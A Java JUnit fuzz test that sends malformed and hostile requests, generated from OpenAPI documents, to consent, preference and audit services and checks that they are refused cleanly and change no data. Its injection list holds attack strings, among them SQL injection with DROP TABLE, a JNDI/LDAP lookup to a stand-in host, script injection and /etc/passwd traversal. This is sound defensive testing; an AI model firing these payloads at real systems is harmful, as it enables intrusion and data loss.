package io.samtykke.system;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.samtykke.system.ApiDocument.Operation;
import io.samtykke.system.ApiDocument.Parameter;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile and malformed requests, generated from each running service's OpenAPI document (so a new endpoint is
 * fuzzed without edits), sent with a valid token that holds every staff role: broken JSON, wrong types, 100 KB
 * strings, deep nesting, large arrays, lone surrogates, NUL, RTL overrides, injection strings in ids and fields,
 * invalid enums and timestamps, duplicate keys, path traversal, wrong content types.
 * <p>
 * Every answer is below 500 and every refusal is problem+json. The requests that are invalid by the contract
 * (malformed JSON, a wrong type, an invalid enum or timestamp, a control character, a duplicate key...) must be
 * refused and change nothing anywhere: the tenant's purposes, topics and webhooks read the same after the batch, and
 * the audit log, which every consent and preference event reaches, holds exactly one entry more: a canary change
 * made after the batch, which must also reach preference-service's decisions. A 201 for a request a consumer cannot
 * read once stopped the audit log for every tenant; the canary is what would notice.
 */
class FuzzTest {

    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final int MIN_CASES = 1000;
    private static final String TENANT = "fuzz";
    private static final String HUGE = "x".repeat(100 * 1024);
    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "1; DROP TABLE consent_record; --", "${jndi:ldap://x.example/a}",
            "<script>alert(1)</script>", "{{7*7}}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "\u202Egnp.exe",
            "ｆｕｌｌｗｉｄｔｈ", "😀\u200D", "%00", "a/b", " leading and trailing ", "");
    private static final List<String> BAD_INSTANTS = List.of("0000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "+10000-01-01T00:00:00Z",
            "2026-13-45T25:61:61Z", "2026-02-30T00:00:00Z", "2026-03-05T18:41:02", "2026-03-05", "yesterday", "1700000000");

    private static final String PUNCTUATION = "'\"\\<>{}[]%$;&|`";

    private static Cluster cluster;
    private static String token;
    private static int canaries;

    /** One request, whether the contract says it must be refused, and whether it asks for a page (HTML refusals). */
    record Case(String what, String method, String path, String contentType, String body, boolean mustRefuse, boolean page) {

        Case(String what, String method, String path, String contentType, String body, boolean mustRefuse) {
            this(what, method, path, contentType, body, mustRefuse, false);
        }
    }

    @BeforeAll
    static void tenant() throws Exception {
        cluster = Cluster.shared();
        token = cluster.sign(Cluster.claims(TENANT, "fuzz-staff", "admin", "app", "dpo", "auditor", "marketing"));
        expect(send("consent-service", "PUT", "/v1/purposes/newsletter", "application/json",
                "{\"names\":{\"da\":\"Nyhedsbrev\"},\"channel\":\"EMAIL\",\"legalBasis\":\"CONSENT\",\"category\":\"MARKETING\"}"), 201, 200);
        expect(send("consent-service", "POST", "/v1/purposes/newsletter/notices", "application/json",
                "{\"version\":\"v1\",\"language\":\"da\",\"text\":\"Ja tak til nyhedsbrevet.\"}"), 201, 409);
        canary();
    }

    @ParameterizedTest
    @ValueSource(strings = {"consent-service", "preference-service", "audit-service"})
    void malformedRequestsAreRefusedWithProblemJsonAndChangeNothing(String service) throws Exception {
        List<Case> cases = cases(service);
        List<Case> mustRefuse = cases.stream().filter(Case::mustRefuse).toList();
        List<Case> others = cases.stream().filter(c -> !c.mustRefuse()).toList();
        assertTrue(cases.size() >= MIN_CASES, service + ": only " + cases.size() + " cases");

        List<String> failures = new ArrayList<>();
        Map<String, String> before = snapshot();
        long entriesBefore = auditEntries();
        Map<Integer, Integer> statuses = new TreeMap<>();
        for (Case c : mustRefuse) {
            HttpResponse<String> r = run(service, c, failures, statuses);
            if (r != null && (r.statusCode() < 400 || r.statusCode() == 429)) {
                failures.add(c.what() + ": must be refused, got " + r.statusCode() + " " + r.body());
            }
        }
        canary();
        assertEquals(List.of(), failures, service + ": requests the contract refuses");
        assertEquals(before, snapshot(), service + ": the refused requests changed what the tenant reads");
        assertEquals(entriesBefore + 1, auditEntries(), service + ": the audit log holds the canary and nothing else");

        int accepted = 0;
        for (Case c : others) {
            HttpResponse<String> r = run(service, c, failures, statuses);
            if (r != null && r.statusCode() < 300 && !c.method().equals("GET")) {
                accepted++;
            }
        }
        canary();
        assertEquals(List.of(), failures, service + ": hostile but well-formed requests");
        System.out.printf("fuzz %s: %d requests (%d invalid by contract, all refused; %d others, %d writes of them accepted); "
                + "answers by status %s; the canary change after each batch reached the audit log and the decisions%n",
                service, cases.size(), mustRefuse.size(), others.size(), accepted, statuses);
    }

    /**
     * Every operation of the service's OpenAPI document refuses a query parameter it does not take (400 problem+json
     * pointing at it) instead of ignoring it, so a misspelt filter never passes for the filtered answer; and the
     * refused requests change nothing.
     */
    @ParameterizedTest
    @ValueSource(strings = {"consent-service", "preference-service", "audit-service"})
    void aQueryParameterAnOperationDoesNotTakeIsRefusedByEveryOperation(String service) throws Exception {
        ApiDocument doc = ApiDocument.of(service, cluster.service(service).url(""));
        Map<String, String> before = snapshot();
        List<String> failures = new ArrayList<>();
        int operations = 0;
        for (Operation op : doc.operations()) {
            if (op.path().startsWith("/q/")) {
                continue;
            }
            operations++;
            String body = op.body() == null ? null : skeleton(doc, op.body()).toString();
            HttpResponse<String> r = send(service, op.method(), path(op, "fuzz-1") + "?fuzz-unknown=1",
                    body == null ? null : "application/json", body);
            JsonNode problem = r.statusCode() == 400 ? JSON.readTree(r.body()) : null;
            if (problem == null || !problem.at("/errors/0/pointer").asText().equals("/query/fuzz-unknown")) {
                failures.add(op + ": " + r.statusCode() + " " + r.body());
            }
        }
        assertEquals(List.of(), failures, service + ": operations that did not refuse an unknown query parameter");
        assertEquals(before, snapshot(), service + ": the refused requests changed what the tenant reads");
        System.out.printf("fuzz %s: all %d operations refused a query parameter they do not take%n", service, operations);
    }

    /** Sends {@code c}; records a 5xx, a refusal without problem+json, or no answer as a failure. */
    private static HttpResponse<String> run(String service, Case c, List<String> failures, Map<Integer, Integer> statuses) {
        HttpResponse<String> r;
        try {
            r = send(service, c.method(), c.path(), c.contentType(), c.body());
        } catch (Exception e) {
            failures.add(c.what() + ": no answer: " + e);
            return null;
        }
        statuses.merge(r.statusCode(), 1, Integer::sum);
        if (r.statusCode() >= 500) {
            failures.add(c.what() + ": " + r.statusCode() + " " + r.body());
        } else if (r.statusCode() >= 400) {
            String type = r.headers().firstValue("Content-Type").orElse("");
            if (c.page() && type.startsWith("text/html")) {
                return r; // a person's browser gets an error page
            }
            if (!type.startsWith("application/problem+json") || !problem(r.body())) {
                failures.add(c.what() + ": " + r.statusCode() + " without a problem+json body: " + type + " " + r.body());
            }
        }
        return r;
    }

    private static boolean problem(String body) {
        try {
            JsonNode p = JSON.readTree(body);
            return p.path("type").isTextual() && p.path("title").isTextual() && p.path("status").isInt();
        } catch (Exception e) {
            return false;
        }
    }

    // the cases

    static List<Case> cases(String service) throws Exception {
        List<Case> cases = new ArrayList<>();
        ApiDocument doc = ApiDocument.of(service, cluster.service(service).url(""));
        List<Operation> operations = doc.operations().stream().filter(op -> !op.path().startsWith("/q/")).toList();
        for (Operation op : operations) {
            String path = path(op, "fuzz-1");
            if (op.body() != null) {
                bodyCases(doc, op, path, cases);
            }
            for (Parameter p : op.parameters()) {
                if (p.in().equals("path") || p.in().equals("query")) {
                    parameterCases(op, p, cases);
                }
            }
        }
        // more, seeded so a failure can be reproduced: random text, in random places
        Random random = new Random(service.hashCode());
        List<Operation> withInput = operations.stream()
                .filter(op -> op.body() != null || op.parameters().stream().anyMatch(p -> !p.in().equals("header"))).toList();
        while (cases.size() < MIN_CASES + 200 && !withInput.isEmpty()) {
            Operation op = withInput.get(random.nextInt(withInput.size()));
            String text = randomText(random);
            if (op.body() != null) {
                ObjectNode skeleton = skeleton(doc, op.body());
                List<String> leaves = leaves(skeleton, "");
                if (!leaves.isEmpty()) {
                    ObjectNode mutated = skeleton.deepCopy();
                    set(mutated, leaves.get(random.nextInt(leaves.size())), NODES.textNode(text));
                    cases.add(new Case(op + " random text in a field", op.method(), path(op, "fuzz-1"), "application/json",
                            mutated.toString(), false));
                    continue;
                }
            }
            List<Parameter> inUrl = op.parameters().stream().filter(p -> !p.in().equals("header")).toList();
            if (!inUrl.isEmpty()) {
                Parameter p = inUrl.get(random.nextInt(inUrl.size()));
                cases.add(withParameter(op, p, text, "random text in " + p.name(), false));
            }
        }
        return cases;
    }

    private static void bodyCases(ApiDocument doc, Operation op, String path, List<Case> cases) {
        ObjectNode skeleton = skeleton(doc, op.body());
        String valid = skeleton.toString();
        String m = op.method();
        // the body as a whole
        if (op.bodyRequired()) {
            for (String absent : List.of("", "null")) {
                cases.add(new Case(op + " body " + abbreviate(absent), m, path, "application/json", absent, true));
            }
        }
        for (String broken : List.of("{", "}", "{\"", "not json", "[]", "123", "\"text\"", "true", valid + "}",
                valid + " trailing", valid.replaceFirst("\\{", "{/* comment */"), "{\"a\":NaN}", "{'single':'quotes'}",
                "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(2000) + "1" + "}".repeat(2000), "\u0000",
                valid.substring(0, Math.max(1, valid.length() / 2)))) {
            cases.add(new Case(op + " body " + abbreviate(broken), m, path, "application/json", broken, true));
        }
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")) {
            cases.add(new Case(op + " as " + type, m, path, type, valid, true));
        }
        List<String> leaves = leaves(skeleton, "");
        if (!leaves.isEmpty()) {
            String first = leaves.get(0).substring(1).split("/")[0];
            cases.add(new Case(op + " duplicate key " + first, m, path, "application/json",
                    "{\"" + first + "\":" + skeleton.get(first) + "," + valid.substring(1), true));
        }
        // each field
        for (String leaf : leaves) {
            JsonNode schema = schemaAt(doc, op.body(), leaf);
            String type = schema.path("type").asText("string");
            for (JsonNode wrong : wrongTypes(type, schema)) {
                cases.add(mutated(op, path, skeleton, leaf, wrong, "wrong type " + wrong, true));
            }
            if (schema.has("enum")) {
                cases.add(mutated(op, path, skeleton, leaf, NODES.textNode("NOT_A_VALUE"), "invalid enum", true));
                cases.add(mutated(op, path, skeleton, leaf, NODES.textNode(schema.path("enum").path(0).asText().toLowerCase() + " "),
                        "enum with a space", true));
            }
            if ("date-time".equals(schema.path("format").asText())) {
                for (String bad : BAD_INSTANTS) {
                    cases.add(mutated(op, path, skeleton, leaf, NODES.textNode(bad), "invalid instant " + bad, true));
                }
            }
            if (type.equals("string")) {
                for (String control : List.of("a\u0000b", "bell\u0007", "esc\u001b[31m")) {
                    cases.add(mutated(op, path, skeleton, leaf, NODES.textNode(control), "control character", true));
                }
                cases.add(raw(op, path, skeleton, leaf, "\"\\ud800 lone\"", "lone high surrogate", true));
                cases.add(raw(op, path, skeleton, leaf, "\"lone \\udc00\"", "lone low surrogate", true));
                cases.add(mutated(op, path, skeleton, leaf, NODES.textNode(HUGE), "100 KB string", false));
                for (String injection : INJECTIONS) {
                    cases.add(mutated(op, path, skeleton, leaf, NODES.textNode(injection), "text " + abbreviate(injection), false));
                }
            }
            cases.add(mutated(op, path, skeleton, leaf, NODES.nullNode(), "null", false));
            ArrayNode large = NODES.arrayNode();
            for (int i = 0; i < 100_000; i++) {
                large.add(i);
            }
            cases.add(mutated(op, path, skeleton, leaf, large, "array of 100,000", !type.equals("array")));
            cases.add(raw(op, path, skeleton, leaf, "[".repeat(3000) + "]".repeat(3000), "3,000 nested arrays", true));
        }
        ObjectNode unknown = skeleton.deepCopy();
        unknown.put("__proto__", "x");
        cases.add(new Case(op + " unknown property", m, path, "application/json", unknown.toString(), false));
    }

    private static void parameterCases(Operation op, Parameter p, List<Case> cases) {
        String type = p.schema().path("type").asText("string");
        for (String injection : INJECTIONS) {
            if (!(p.in().equals("path") && injection.isEmpty())) {
                cases.add(withParameter(op, p, injection, abbreviate(injection), false));
            }
        }
        cases.add(withParameter(op, p, "x".repeat(5000), "5,000 characters", false));
        cases.add(withParameter(op, p, "..%2F..%2Fetc%2Fpasswd", "encoded traversal", false));
        cases.add(withParameter(op, p, "nul\u0000byte", "NUL", true));
        if (type.equals("integer") || type.equals("number")) {
            for (String bad : List.of("abc", "1.5", "1e309", "99999999999999999999", "0x10", "NaN")) {
                cases.add(withParameter(op, p, bad, "not a number " + bad, true));
            }
        }
        if ("date-time".equals(p.schema().path("format").asText())) {
            for (String bad : BAD_INSTANTS) {
                cases.add(withParameter(op, p, bad, "invalid instant " + bad, true));
            }
        }
        if (p.schema().has("enum")) {
            cases.add(withParameter(op, p, "NOT_A_VALUE", "invalid enum", true));
        }
    }

    private static Case withParameter(Operation op, Parameter p, String value, String what, boolean mustRefuse) {
        String encoded = value.contains("%2F") ? value : URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
        String path = p.in().equals("path") ? op.path().replace("{" + p.name() + "}", encoded) : path(op, "fuzz-1");
        path = path.replaceAll("\\{[^}]+}", "fuzz-1");
        if (p.in().equals("query")) {
            path += "?" + URLEncoder.encode(p.name(), StandardCharsets.UTF_8) + "=" + encoded;
        }
        String body = op.body() == null ? null : "{}";
        return new Case(op + " " + p.in() + " " + p.name() + ": " + what, op.method(), path, body == null ? null : "application/json",
                body, mustRefuse, op.page());
    }

    private static Case mutated(Operation op, String path, ObjectNode skeleton, String leaf, JsonNode value, String what, boolean mustRefuse) {
        ObjectNode copy = skeleton.deepCopy();
        set(copy, leaf, value);
        return new Case(op + " " + leaf + ": " + what, op.method(), path, "application/json", copy.toString(), mustRefuse);
    }

    /** {@code rawJson} put in as written, for what Jackson would not write (lone surrogates, deep nesting). */
    private static Case raw(Operation op, String path, ObjectNode skeleton, String leaf, String rawJson, String what, boolean mustRefuse) {
        ObjectNode copy = skeleton.deepCopy();
        String marker = "__fuzz_marker_" + Math.abs(leaf.hashCode()) + "__";
        set(copy, leaf, NODES.textNode(marker));
        return new Case(op + " " + leaf + ": " + what, op.method(), path, "application/json",
                copy.toString().replace("\"" + marker + "\"", rawJson), mustRefuse);
    }

    private static List<JsonNode> wrongTypes(String type, JsonNode schema) {
        List<JsonNode> wrong = new ArrayList<>();
        switch (type) {
            case "string" -> {
                wrong.add(NODES.numberNode(123));
                wrong.add(NODES.booleanNode(true));
                wrong.add(NODES.objectNode());
            }
            case "integer" -> {
                wrong.add(NODES.textNode("1"));
                wrong.add(NODES.numberNode(1.5));
                wrong.add(NODES.booleanNode(true));
            }
            case "number" -> {
                wrong.add(NODES.textNode("1"));
                wrong.add(NODES.booleanNode(false));
            }
            case "boolean" -> {
                wrong.add(NODES.textNode("true"));
                wrong.add(NODES.numberNode(1));
            }
            case "array" -> {
                wrong.add(NODES.textNode("not an array"));
                wrong.add(NODES.numberNode(7));
            }
            default -> {
            }
        }
        return wrong;
    }

    // a request body shaped by its schema

    /** A body with every property of {@code schema} filled in by type (enums with their first value). */
    static ObjectNode skeleton(ApiDocument doc, JsonNode schema) {
        JsonNode value = example(doc, schema, 0);
        return value instanceof ObjectNode o ? o : NODES.objectNode();
    }

    private static JsonNode example(ApiDocument doc, JsonNode schema, int depth) {
        JsonNode s = doc.resolve(schema);
        if (s.has("allOf")) {
            s = doc.resolve(s.path("allOf").path(0));
        }
        if (s.has("enum")) {
            return s.path("enum").path(0);
        }
        String type = s.path("type").asText(s.has("properties") ? "object" : "string");
        return switch (type) {
            case "object" -> {
                ObjectNode o = NODES.objectNode();
                if (depth < 4) {
                    for (Iterator<Map.Entry<String, JsonNode>> it = s.path("properties").fields(); it.hasNext(); ) {
                        Map.Entry<String, JsonNode> p = it.next();
                        o.set(p.getKey(), example(doc, p.getValue(), depth + 1));
                    }
                    if (o.isEmpty() && s.path("additionalProperties").isObject()) {
                        o.set("da", example(doc, s.path("additionalProperties"), depth + 1));
                    }
                }
                yield o;
            }
            case "array" -> NODES.arrayNode().add(example(doc, s.path("items"), depth + 1));
            case "integer", "number" -> NODES.numberNode(1);
            case "boolean" -> NODES.booleanNode(true);
            default -> NODES.textNode("date-time".equals(s.path("format").asText()) ? Instant.now().toString() : "fuzz");
        };
    }

    /** JSON pointers of the scalar values (and empty containers) in {@code node}. */
    static List<String> leaves(JsonNode node, String at) {
        List<String> leaves = new ArrayList<>();
        if (node.isObject() && !node.isEmpty()) {
            node.fields().forEachRemaining(e -> leaves.addAll(leaves(e.getValue(), at + "/" + e.getKey())));
        } else if (node.isArray() && !node.isEmpty()) {
            leaves.add(at);
            leaves.addAll(leaves(node.get(0), at + "/0"));
        } else if (!at.isEmpty()) {
            leaves.add(at);
        }
        return leaves;
    }

    private static JsonNode schemaAt(ApiDocument doc, JsonNode schema, String pointer) {
        JsonNode s = doc.resolve(schema);
        for (String part : pointer.substring(1).split("/")) {
            if (s.has("allOf")) {
                s = doc.resolve(s.path("allOf").path(0));
            }
            s = doc.resolve(part.matches("\\d+") && s.has("items") ? s.path("items")
                    : s.path("properties").has(part) ? s.path("properties").path(part) : s.path("additionalProperties"));
        }
        return s;
    }

    private static void set(ObjectNode root, String pointer, JsonNode value) {
        int cut = pointer.lastIndexOf('/');
        JsonNode parent = cut == 0 ? root : root.at(pointer.substring(0, cut));
        String last = pointer.substring(cut + 1);
        if (parent instanceof ObjectNode o) {
            o.set(last, value);
        } else if (parent instanceof ArrayNode a) {
            a.set(Integer.parseInt(last), value);
        }
    }

    private static String path(Operation op, String id) {
        return op.path().replaceAll("\\{[^}]+}", id);
    }

    private static String randomText(Random random) {
        StringBuilder b = new StringBuilder();
        int n = 1 + random.nextInt(40);
        for (int i = 0; i < n; i++) {
            int kind = random.nextInt(4);
            b.appendCodePoint(switch (kind) {
                case 0 -> 0x20 + random.nextInt(0x5f);
                case 1 -> 0xa0 + random.nextInt(0x2000);
                case 2 -> 0x1f300 + random.nextInt(0x300);
                default -> PUNCTUATION.charAt(random.nextInt(PUNCTUATION.length()));
            });
        }
        return b.toString();
    }

    private static String abbreviate(String s) {
        String printable = s.replaceAll("\\p{Cntrl}", "?");
        return printable.length() <= 40 ? "'" + printable + "'" : "'" + printable.substring(0, 40) + "...' (" + s.length() + " chars)";
    }

    // what the tenant reads, and the canary

    /** Everything the tenant's staff can list, outside the audit log. */
    private static Map<String, String> snapshot() throws Exception {
        Map<String, String> snapshot = new TreeMap<>();
        for (String[] read : new String[][] {{"consent-service", "/v1/purposes"}, {"preference-service", "/v1/topics"},
                {"preference-service", "/v1/webhooks"}, {"consent-service", "/v1/subjects/fuzz-1/consents"},
                {"preference-service", "/v1/subjects/fuzz-1/preferences"}}) {
            HttpResponse<String> r = send(read[0], "GET", read[1], null, null);
            snapshot.put(read[0] + read[1], r.statusCode() + " " + r.body());
        }
        return snapshot;
    }

    private static long auditEntries() throws Exception {
        long count = 0;
        String cursor = null;
        do {
            HttpResponse<String> r = send("audit-service", "GET", "/v1/entries?limit=500" + (cursor == null ? "" : "&cursor=" + cursor), null, null);
            assertEquals(200, r.statusCode(), r.body());
            JsonNode page = JSON.readTree(r.body());
            count += page.path("entries").size();
            cursor = page.path("nextCursor").isTextual() ? URLEncoder.encode(page.path("nextCursor").asText(), StandardCharsets.UTF_8) : null;
        } while (cursor != null);
        return count;
    }

    /** A real change, which must reach the audit log and preference-service's decisions: the pipeline still flows. */
    private static void canary() throws Exception {
        String subject = "canary-" + (++canaries);
        expect(send("consent-service", "POST", "/v1/subjects/" + subject + "/consents", "application/json",
                "{\"changes\":[{\"purpose\":\"newsletter\",\"action\":\"GRANT\",\"noticeVersion\":\"v1\"}],\"evidence\":{\"source\":"
                        + "{\"appId\":\"fuzz\",\"platform\":\"web\",\"appVersion\":\"1\",\"collectionPoint\":\"settings\"},\"language\":\"da\"}}"), 201);
        await(subject + " in the audit log").atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(50)).until(() ->
                JSON.readTree(send("audit-service", "GET", "/v1/entries?subject=" + subject, null, null).body()).path("entries").size() == 1);
        await(subject + " allowed by the decisions").atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(50)).until(() ->
                "ALLOW".equals(JSON.readTree(send("preference-service", "POST", "/v1/decisions", "application/json",
                        "{\"channel\":\"EMAIL\",\"purpose\":\"newsletter\",\"subjectId\":\"" + subject + "\"}").body())
                        .path("decisions").path(0).path("decision").asText()));
    }

    private static HttpResponse<String> send(String service, String method, String path, String contentType, String body) throws Exception {
        return cluster.send(service, method, path, token, contentType, body);
    }

    private static void expect(HttpResponse<String> r, int... statuses) {
        for (int s : statuses) {
            if (r.statusCode() == s) {
                return;
            }
        }
        throw new AssertionError(r.request().method() + " " + r.request().uri() + " answered " + r.statusCode() + ": " + r.body());
    }
}
